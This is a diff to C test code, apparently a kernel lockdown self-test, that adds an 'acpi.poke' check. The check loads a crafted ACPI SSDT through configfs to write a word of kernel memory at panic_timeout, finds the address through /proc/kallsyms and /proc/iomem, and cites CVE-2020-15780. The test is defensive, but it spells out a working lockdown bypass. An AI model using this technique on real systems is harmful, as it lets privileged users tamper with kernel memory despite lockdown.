@@ -12,6 +12,13 @@
 #define SETTLE_MS 5000
 #define CHECKSUM 9
 
+/* A word of the kernel that root can look at, and put back. */
+#define PANIC "/proc/sys/kernel/panic"
+#define POKED 5
+
+/* Where poke_ssdt has the address. */
+#define POKE_ADDRESS 44
+
 /* A table, and its directory: two of the same name cannot be loaded at once. */
 struct table {
 	const char *directory;
@@ -28,10 +35,28 @@ static const char device_ssdt[] =
 	"SSDT\x38\0\0\0\2\0LCKDWNSELFTEST\1\0\0\0LCKD\1\0\0\0"
 	"\x10\x13\\_SB_\x5b\x82\x0bLKDP\x08_ADR";
 
+/*
+ * OperationRegion (KMEM, SystemMemory, 0, 4)
+ * Field (KMEM, DWordAcc) { WORD, 32 }
+ * Store (POKED, WORD)
+ */
+static const char poke_ssdt[] =
+	"SSDT\x49\0\0\0\2\0LCKDWNSELFTEST\1\0\0\0LCKD\1\0\0\0"
+	"\x5b\x80KMEM\0\x0c\0\0\0\0\x0a\x04"
+	"\x5b\x81\x0bKMEM\x03WORD\x20"
+	"\x70\x0c\x05\0\0\0WORD";
+
+struct loaded {
+	/* There is a directory. */
+	bool made;
+	/* The word before. */
+	long panic;
+};
+
 static int write_table(const struct table *table)
 {
 	char path[96];
-	__u8 bytes[64];
+	__u8 bytes[128];
 	__u8 sum = 0;
 	size_t i;
 	int fd, ret;
@@ -50,10 +75,9 @@ static int write_table(const struct table *table)
 	return ret;
 }
 
-static int obtain_table(struct held *held)
+static int load_table(struct held *held, const struct table *table)
 {
-	const struct table *table = held->thing->arg;
-	bool *const made = held->state;
+	struct loaded *loaded = held->state;
 	int ret;
 
 	if (access("/sys/bus/acpi/devices", F_OK))
@@ -67,24 +91,97 @@ static int obtain_table(struct held *held)
 				    TABLES);
 		return -errno;
 	}
-	*made = true;
+	loaded->made = true;
 	return write_table(table);
+}
+
+static int obtain_table(struct held *held)
+{
+	return load_table(held, held->thing->arg);
 }
 
 static void release_table(struct held *held)
 {
 	const struct table *table = held->thing->arg;
-	const bool *const made = held->state;
+	const struct loaded *loaded = held->state;
 
-	if (*made && rmdir(table->directory))
+	if (loaded->made && rmdir(table->directory))
 		not_released(table->directory, errno);
 }
 
 static const struct handle configfs_table = {
-	.size = sizeof(bool),
+	.size = sizeof(struct loaded),
 	.obtain = obtain_table,
 	.release = release_table,
 };
+
+/* 0 if it is hidden, and then nothing is written that matters. */
+static unsigned long long find_symbol(const char *wanted)
+{
+	FILE *symbols = fopen("/proc/kallsyms", "re");
+	unsigned long long address, found = 0;
+	char name[128];
+
+	while (symbols && !found &&
+	       fscanf(symbols, "%llx %*c %127s%*[^\n]", &address, name) == 2) {
+		if (!strcmp(name, wanted))
+			found = address;
+	}
+	if (symbols)
+		fclose(symbols);
+	return found;
+}
+
+static unsigned long long find_kernel(void)
+{
+	FILE *areas = fopen("/proc/iomem", "re");
+	unsigned long long address, found = 0;
+	char line[128];
+
+	while (areas && !found && fgets(line, sizeof(line), areas)) {
+		if (strstr(line, " : Kernel code") &&
+		    sscanf(line, "%llx", &address) == 1)
+			found = address;
+	}
+	if (areas)
+		fclose(areas);
+	return found;
+}
+
+static int obtain_poke(struct held *held)
+{
+	const unsigned long long address = find_symbol("panic_timeout") -
+					   find_symbol("_text") + find_kernel();
+	const __u32 low = address;
+	struct loaded *loaded = held->state;
+	struct table table = *(const struct table *)held->thing->arg;
+	char bytes[sizeof(poke_ssdt) - 1];
+
+	if (low != address)
+		return lack(held, "no kernel below 4 GiB");
+	memcpy(bytes, table.bytes, sizeof(bytes));
+	memcpy(bytes + POKE_ADDRESS, &low, sizeof(low));
+	table.bytes = bytes;
+	loaded->panic = read_number(PANIC);
+	return load_table(held, &table);
+}
+
+static const struct handle poking_table = {
+	.size = sizeof(struct loaded),
+	.obtain = obtain_poke,
+	.release = release_table,
+};
+
+static int use_poke(struct held *held)
+{
+	const struct loaded *loaded = held->state;
+	char text[16];
+
+	if (read_number(PANIC) != POKED)
+		return WITHHELD;
+	snprintf(text, sizeof(text), "%ld", loaded->panic);
+	return write_text(PANIC, text);
+}
 
 /* A table that was not loaded has no signature. */
 static int use_signature(struct held *held)
@@ -126,6 +223,20 @@ static const struct thing acpi_things[] = {
 					      sizeof(name_ssdt) },
 		.object = "configfs table lockdown",
 		.level.title = "load an ACPI table, configfs",
+		.level.withheld = true,
+	},
+	/* The exploit american-unsigned-language 2, CVE-2020-15780. */
+	{
+		.name = "acpi.poke",
+		.reason = "ACPI_TABLES",
+		.denied_from = INTEGRITY,
+		.handle = &poking_table,
+		.use = use_poke,
+		.arg = &(const struct table){ TABLES "/lockdown_poke",
+					      poke_ssdt,
+					      sizeof(poke_ssdt) - 1 },
+		.object = "configfs table lockdown_poke",
+		.level.title = "have an ACPI table write kernel memory",
 		.level.withheld = true,
 	},
 	{
